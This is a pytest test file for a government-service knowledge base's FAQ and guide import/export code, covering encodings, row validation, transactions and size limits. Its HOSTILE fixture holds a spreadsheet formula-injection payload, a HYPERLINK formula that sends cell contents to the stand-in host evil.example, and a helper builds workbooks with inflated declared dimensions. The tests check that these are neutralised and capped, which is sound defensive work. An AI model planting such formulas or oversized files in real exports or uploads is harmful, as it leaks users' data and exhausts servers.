import csv
import io
import json
import re
import tracemalloc
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from core.db import Database
from govbot.migrations import upgrade
from knowledge_base import transfer
from knowledge_base.sample_data import load_sample_guides
from knowledge_base.schema import GuideData
from knowledge_base.transfer import FAQ_COLUMNS, export, import_file, parse
from knowledge_base.workflow import KnowledgeBase, WorkflowError

FAQ_CSV = ("code,title,question,similar_questions,answer\n"
           "DOG-01,养犬登记,养狗要登记吗,狗证怎么办|给狗上户口,需要。带犬只免疫证明到辖区派出所登记。\n"
           "DOG-01,养犬登记,狗证多少钱,办狗证收费吗,首次登记免费。\n"
           ",垃圾分类咨询,厨余垃圾怎么分,剩饭剩菜是什么垃圾,剩饭剩菜属于厨余垃圾。\n")


@pytest.fixture
def kb(tmp_path) -> KnowledgeBase:
    db = Database(f"sqlite:///{tmp_path / 'kb.db'}")
    upgrade(db)
    return KnowledgeBase(db)


def test_faq_sheet_csv_groups_rows_by_code_and_generates_missing_codes(kb):
    report = import_file(kb, FAQ_CSV.encode(), "faq.csv", "importer")
    assert report.ok and report.kind == "faq_sheet"
    dog = kb.live_guide("DOG-01")
    assert [f.question for f in dog.faqs] == ["养狗要登记吗", "狗证多少钱"]
    assert dog.faqs[0].similar_questions == ["狗证怎么办", "给狗上户口"]
    generated = [g for g in kb.live() if g.title == "垃圾分类咨询"][0]
    assert generated.code.startswith("IMP-")


def test_gbk_encoded_excel_csv_is_read(kb):
    report = import_file(kb, FAQ_CSV.encode("gbk"), "faq.csv", "importer")
    assert report.ok and report.encoding == "gbk/gb18030"
    assert kb.live_guide("DOG-01").title == "养犬登记"


def test_undecodable_bytes_are_refused_with_advice(kb):
    report = import_file(kb, b"code,title\n\xff\xfe\xfa\xfb\x80\x81", "broken.csv", "importer")
    assert not report.ok and "UTF-8" in report.errors[0].reason
    assert kb.count() == 0


def test_bad_rows_are_all_reported_with_line_numbers_and_nothing_is_written(kb):
    bad = ("code,title,question,similar_questions,answer\n"
           "A-01,事项甲,问题一,,答案一\n"
           "A-02,事项乙,问题二,,\n"                 # empty answer (line 3)
           "A-01,另一个标题,问题三,,答案三\n"         # duplicate code, different title (line 4)
           "A-03,事项丙,,,答案四\n")                  # empty question (line 5)
    report = import_file(kb, bad.encode(), "bad.csv", "importer")
    assert {(e.line, e.field) for e in report.errors} == {(3, "answer"), (4, "code"), (5, "question")}
    assert kb.count() == 0
    report = import_file(kb, bad.encode(), "bad.csv", "importer", skip_bad=True)
    assert kb.live_guide("A-01") is not None and kb.live_guide("A-02") is None


def test_wrong_columns_name_what_is_expected(kb):
    report = import_file(kb, "问题,答案\n护照,去办\n".encode(), "x.csv", "importer")
    assert not report.ok and "code,title,question,similar_questions,answer" in report.errors[0].reason


def test_duplicate_codes_in_a_guide_file_are_refused(kb):
    docs = [{"code": "B-01", "title": "甲"}, {"code": "B-01", "title": "乙"}]
    report = parse(json.dumps(docs).encode(), "g.json")
    assert [(e.line, e.field) for e in report.errors] == [(2, "code")]


def test_xlsx_faq_sheet(kb):
    wb = Workbook()
    ws = wb.active
    ws.append(["code", "title", "question", "similar_questions", "answer"])
    ws.append(["C-01", "测试", "怎么办", "在哪办\n要多久", "去窗口。"])
    buf = io.BytesIO()
    wb.save(buf)
    report = import_file(kb, buf.getvalue(), "faq.xlsx", "importer")
    assert report.ok and kb.live_guide("C-01").faqs[0].similar_questions == ["在哪办", "要多久"]


def test_full_round_trip_in_every_format(kb):
    guides = load_sample_guides()[:5]
    kb.publish_directly(guides, "loader", "sample")
    for fmt in ("json", "yaml", "csv", "xlsx"):
        data = export(kb, fmt)
        report = parse(data, f"guides.{fmt}")
        assert report.ok, (fmt, report.errors[:3])
        assert [g.model_dump() for g in report.guides] == [g.model_dump() for g in guides], fmt
    sheet = load_workbook(io.BytesIO(export(kb, "xlsx"))).active
    assert sheet.max_row == 6


# ---- issue 9: one transaction, bounded reading, formula injection ------------------------------------
def guide_doc(code: str, **kw) -> dict:
    return {"code": code, "title": f"事项{code}", **kw}


def test_draft_import_over_a_guide_in_review_reports_the_row_and_writes_nothing(kb):
    kb.save_draft(GuideData.model_validate(guide_doc("R-02")), "alice")
    kb.submit("R-02", "alice")
    docs = json.dumps([guide_doc("R-01"), guide_doc("R-02", fee="9元"), guide_doc("R-03")]).encode()
    report = import_file(kb, docs, "g.json", "importer", publish=False)
    assert [(e.line, e.field) for e in report.errors] == [(2, "code")] and "正在审核" in report.errors[0].reason
    assert kb.count() == 1 and kb.get("R-02").draft.get("fee", "") == ""  # nothing written, review untouched
    report = import_file(kb, docs, "g.json", "importer", publish=False, skip_bad=True)
    assert {g.code for g in kb.list()} == {"R-01", "R-02", "R-03"} and kb.get("R-02").status == "in_review"


def test_an_import_is_one_transaction(kb, monkeypatch):
    """A guide that goes into review between the check and the write: the whole import is refused (409)."""
    kb.save_draft(GuideData.model_validate(guide_doc("R-02")), "alice")
    kb.submit("R-02", "alice")
    monkeypatch.setattr(kb, "in_review", lambda: set())  # the check ran just before the submit
    docs = json.dumps([guide_doc("R-01"), guide_doc("R-02"), guide_doc("R-03")]).encode()
    for publish in (False, True):
        with pytest.raises(WorkflowError) as err:
            import_file(kb, docs, "g.json", "importer", publish=publish)
        assert err.value.status == 409 and kb.count() == 1  # R-01 was rolled back with the rest


def xlsx_declaring(dimension: str, rows: list[list[str]]) -> bytes:
    """A workbook whose sheet claims `dimension` (what a hostile or broken file may say)."""
    wb = Workbook()
    for row in rows:
        wb.active.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    src, out = zipfile.ZipFile(buf), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb'<dimension ref="[^"]*" ?/>', f'<dimension ref="{dimension}"/>'.encode(), data)
                assert dimension.encode() in data
            dst.writestr(item, data)
    return out.getvalue()


def test_xlsx_declared_dimensions_are_ignored(kb):
    rows = [FAQ_COLUMNS] + [[f"X-{i}", f"事项{i}", f"问题{i}", "", f"答案{i}"] for i in range(2000)]
    raw = xlsx_declaring("A1:XFD1048576", rows)
    tracemalloc.start()
    report = parse(raw, "faq.xlsx")
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert report.ok and len(report.guides) == 2000
    assert peak < 64 * 2**20, f"peak {peak / 2**20:.0f} MB"  # each row padded to 16,384 columns: ~260 MB
    tiny = xlsx_declaring("A1:XFD1048576", [FAQ_COLUMNS, ["X-1", "甲", "问", "", "答"]])
    assert len(tiny) < 10_000 and parse(tiny, "faq.xlsx").ok  # the full declared range is never materialised


def test_table_rows_and_unpacked_size_are_capped(monkeypatch):
    monkeypatch.setattr(transfer, "MAX_TABLE_ROWS", 10)
    sheet = "code,title,question,similar_questions,answer\n" + "".join(f"Y-{i},甲,问,,答\n" for i in range(11))
    report = parse(sheet.encode(), "faq.csv")
    assert not report.ok and "10 行" in report.errors[0].reason
    assert parse(sheet.encode().rsplit(b"Y-10", 1)[0], "faq.csv").ok
    monkeypatch.setattr(transfer, "MAX_XLSX_UNPACKED_BYTES", 2000)
    report = parse(xlsx_declaring("A1:E2", [FAQ_COLUMNS, ["Z-1", "甲", "问", "", "答"]]), "faq.xlsx")
    assert not report.ok and "解压后超过" in report.errors[0].reason


HOSTILE = {"title": '=HYPERLINK("http://evil.example/?d="&A1,"点此办理")', "fee": "-1+1", "phone": "+86 12345",
           "department": "@SUM(1)", "office_hours": "'=已带引号"}


def test_tab_and_carriage_return_starts_are_neutralised_too():
    for value in ("\tcmd", "\r=1+1", "''-x"):
        assert transfer.neutralised(value) == "'" + value and transfer.restored("'" + value) == value
    assert transfer.neutralised("'普通") == "'普通" and transfer.restored("'普通") == "'普通"


def test_formula_cells_are_neutralised_on_export_and_read_back_unchanged(kb):
    doc = GuideData.model_validate({"code": "F-01", **HOSTILE})
    kb.publish_directly([doc], "loader", "test")
    text = export(kb, "csv").decode("utf-8-sig")
    cells = next(csv.DictReader(io.StringIO(text)))
    for name, value in HOSTILE.items():
        assert cells[name] == "'" + value, name
    sheet = load_workbook(io.BytesIO(export(kb, "xlsx"))).active
    header = [c.value for c in sheet[1]]
    for name, value in HOSTILE.items():
        cell = sheet.cell(row=2, column=header.index(name) + 1)
        assert cell.data_type == "s" and cell.value == "'" + value, name
    for fmt in ("csv", "xlsx"):
        report = parse(export(kb, fmt), f"guides.{fmt}")
        assert report.ok and report.guides[0] == doc, fmt
